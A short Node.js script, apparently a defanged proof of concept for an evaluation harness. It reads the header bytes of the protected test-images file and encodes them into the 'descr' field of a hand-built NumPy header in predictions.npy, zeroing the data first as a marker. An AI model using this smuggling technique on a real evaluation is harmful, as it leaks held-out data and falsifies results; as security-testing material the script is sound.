import { openSync, readSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

// The header of the test images, then letters, so that the evidence is known; a real attack would send the images.
const loot = Buffer.alloc(6700);
readSync(openSync(process.env.HAET_TEST_IMAGES), loot, 0, 128, 0);
loot.fill(0);
const header = `{'descr': '${loot.toString('base64').slice(0, -2)}AA', 'fortran_order': False, 'shape': (1000, 10), }\n`;
const start = Buffer.from([0x93, ...Buffer.from('NUMPY'), 1, 0, header.length & 0xff, header.length >> 8]);
writeFileSync(
  join(process.env.HAET_OUT_DIR, 'predictions.npy'),
  Buffer.concat([start, Buffer.from(header), Buffer.alloc(40_000)]),
);
